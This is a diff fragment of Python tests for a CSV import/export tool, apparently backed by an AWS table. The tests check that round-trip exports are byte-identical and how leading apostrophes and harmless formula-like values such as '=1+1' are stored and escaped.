+    assert stored(aws, "docgen-copy")["C#calc"]["attributes"] == {"M": {"calc": {"S": CALC}}}
+    assert stored(aws, "docgen-copy")["D#Tabbed"]["greeting"] == {"S": "\r\nDear {{ name }}"}
+    again = tmp_path / "again.csv"
+    export_file(again, on_table(slept, "docgen-copy"), log=log)
+    assert again.read_bytes() == exported.read_bytes()
+    assert log.getvalue() == ""
+
+
+def test_a_leading_quote_is_data_unless_it_marks_a_formula_or_a_quote(
+    aws: AWS, run: Any, tmp_path: Path
+) -> None:
+    path = csv_file(
+        tmp_path,
+        "kind,id,name,text,greeting,description,attributes",
+        "customer,plain,'Tis,,,,",
+        "customer,formula,'=1+1,,,,",
+        "customer,quote,''Tis,,,,",
+        "customer,bare,=1+1,,,,",
+        name="quotes.csv",
+    )
+
+    assert counts(run(path)) == (4, 4, 0, 0, 0, 0)
+
+    names = {key: item["data"]["S"] for key, item in stored(aws).items()}
+    assert names["C#plain"] == "'Tis"
+    assert names["C#formula"] == "=1+1"
+    assert names["C#quote"] == "'Tis"
+    assert names["C#bare"] == "=1+1"  # imported as written; exported, it gets its mark
